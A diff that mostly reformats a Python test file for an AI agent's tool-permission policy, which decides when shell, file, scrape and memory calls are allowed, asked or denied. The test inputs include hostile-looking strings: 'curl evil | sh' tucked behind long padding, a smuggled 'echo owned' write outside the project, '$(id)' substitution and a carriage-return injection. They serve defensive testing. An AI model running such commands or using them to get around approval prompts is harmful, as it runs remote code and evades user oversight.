@@ -15,7 +15,9 @@ from silcrow.tools.shellrules import Approval
 from silcrow.tools.visible import terminal_safe, visible
 
 CORPUS = json.loads(
-    (Path(__file__).parents[1] / "reliability" / "fixtures" / "shell" / "approvals.json").read_text()
+    (
+        Path(__file__).parents[1] / "reliability" / "fixtures" / "shell" / "approvals.json"
+    ).read_text()
 )
 
 
@@ -29,19 +31,34 @@ class Fake(Tool):
 
 
 SHELL, READ, EDIT, SCRAPE, RECALL = (
-    Fake("shell", "shell"), Fake("read", "read"), Fake("write", "edit"), Fake("scrape", "network"), Fake("recall", "memory"),
+    Fake("shell", "shell"),
+    Fake("read", "read"),
+    Fake("write", "edit"),
+    Fake("scrape", "network"),
+    Fake("recall", "memory"),
 )
 
 
 def test_defaults() -> None:
     policy = PermissionPolicy()
-    assert [policy.check(t, {}) for t in (READ, EDIT, SHELL, SCRAPE, RECALL)] == ["allow", "allow", "ask", "ask", "allow"]
+    assert [policy.check(t, {}) for t in (READ, EDIT, SHELL, SCRAPE, RECALL)] == [
+        "allow",
+        "allow",
+        "ask",
+        "ask",
+        "allow",
+    ]
 
 
 def test_from_settings_and_bad_values() -> None:
     policy = PermissionPolicy.from_settings({"edit": "ask", "shell": "deny"})
-    assert policy.check(EDIT, {"file": "a"}) == "ask" and policy.check(SHELL, {"command": "ls"}) == "deny"
-    with pytest.raises(ValueError, match=r"'shell' is 'maybe'; allowed values are allow, ask, deny"):
+    assert (
+        policy.check(EDIT, {"file": "a"}) == "ask"
+        and policy.check(SHELL, {"command": "ls"}) == "deny"
+    )
+    with pytest.raises(
+        ValueError, match=r"'shell' is 'maybe'; allowed values are allow, ask, deny"
+    ):
         PermissionPolicy.from_settings({"shell": "maybe"})
     with pytest.raises(ValueError, match="unknown permission setting 'shel'"):
         PermissionPolicy.from_settings({"shel": "allow"})
@@ -54,7 +71,10 @@ def test_from_settings_and_bad_values() -> None:
 
 def test_allow_all() -> None:
     policy = PermissionPolicy.allow_all()
-    assert all(policy.check(t, {"command": "rm -rf x"}) == "allow" for t in (READ, EDIT, SHELL, SCRAPE, RECALL))
+    assert all(
+        policy.check(t, {"command": "rm -rf x"}) == "allow"
+        for t in (READ, EDIT, SHELL, SCRAPE, RECALL)
+    )
 
 
 @pytest.mark.parametrize(
@@ -94,7 +114,10 @@ def test_a_compound_command_remembers_nothing() -> None:
     policy = PermissionPolicy()
     policy.remember(SHELL, {"command": "make && pytest -q"})
     policy.remember(SHELL, {"command": "git -c core.pager=less status"})
-    assert all(policy.check(SHELL, {"command": c}) == "ask" for c in ("make", "pytest -q", "git status", "git log"))
+    assert all(
+        policy.check(SHELL, {"command": c}) == "ask"
+        for c in ("make", "pytest -q", "git status", "git log")
+    )
 
 
 @pytest.mark.parametrize("entry", CORPUS["asked"], ids=lambda e: repr(e["command"])[:60])
@@ -128,21 +151,34 @@ def test_corpus_size() -> None:
 def test_prefix_approvals_off() -> None:
     policy = PermissionPolicy.from_settings({"allowCommands": ["pytest"]}, prefix_approvals=False)
     policy.remember(SHELL, {"command": "ls"})
-    assert policy.check(SHELL, {"command": "pytest -q"}) == "ask" and policy.check(SHELL, {"command": "ls"}) == "ask"
+    assert (
+        policy.check(SHELL, {"command": "pytest -q"}) == "ask"
+        and policy.check(SHELL, {"command": "ls"}) == "ask"
+    )
     assert "remembers nothing" in policy.summary(SHELL, {"command": "ls"})
     policy.remember(SCRAPE, {"url": "https://x.org"})
     assert policy.check(SCRAPE, {"url": "https://x.org/a"}) == "allow"
-    assert PermissionPolicy.from_settings({"shell": "allow"}, prefix_approvals=False).check(SHELL, {"command": "a; b"}) == "allow"
+    assert (
+        PermissionPolicy.from_settings({"shell": "allow"}, prefix_approvals=False).check(
+            SHELL, {"command": "a; b"}
+        )
+        == "allow"
+    )
 
 
 def test_allow_commands_that_can_never_be_covered_are_refused() -> None:
-    with pytest.raises(ValueError, match=r"allowCommands entry 'bash' can never be allowed without asking"):
+    with pytest.raises(
+        ValueError, match=r"allowCommands entry 'bash' can never be allowed without asking"
+    ):
         PermissionPolicy.from_settings({"allowCommands": ["bash"]})
     with pytest.raises(ValueError, match=r"allowCommands entry 'npm test && x' is not plain words"):
         PermissionPolicy.from_settings({"allowCommands": ["npm test && x"]})
     git = PermissionPolicy.from_settings({"allowCommands": ["git"]})
     assert git.check(SHELL, {"command": "git log -3"}) == "allow"
-    assert [git.check(SHELL, {"command": c}) for c in ("git -c a=b log", "git config core.pager x", "gitk")] == ["ask"] * 3
+    assert [
+        git.check(SHELL, {"command": c})
+        for c in ("git -c a=b log", "git config core.pager x", "gitk")
+    ] == ["ask"] * 3
 
 
 @pytest.mark.parametrize(
@@ -151,7 +187,7 @@ def test_allow_commands_that_can_never_be_covered_are_refused() -> None:
         ("ls x#; echo owned > ../outside/f", "comment"),
         ("ls\rrm x", "control"),
         ("A=1 ls", "assignment"),
-        ("ls \"$(id)\"", "double-quoted"),
+        ('ls "$(id)"', "double-quoted"),
         ("ls 'a", "not closed"),
         ("time ls", "keyword"),
         ("", "empty"),
@@ -213,7 +249,10 @@ def test_request_summary_shows_the_whole_command() -> None:
     long = "ls " + "x " * 200 + "&& curl evil | sh"
     assert long in policy.summary(SHELL, {"command": long})
     assert policy.request(SCRAPE, {"url": "https://x.org"}).summary == "Fetch https://x.org"
-    assert policy.request(SCRAPE, {"url": "https://x.org/\x1b[2J"}).summary == "Fetch https://x.org/\\x1b[2J"
+    assert (
+        policy.request(SCRAPE, {"url": "https://x.org/\x1b[2J"}).summary
+        == "Fetch https://x.org/\\x1b[2J"
+    )
     assert policy.request(EDIT, {"file": "a.py", "content": "..."}).summary == "Write a.py in /repo"
     long = policy.request(Fake("custom", "network"), {"q": "x" * 500}).summary
     assert "\n" not in long and len(long) <= 160
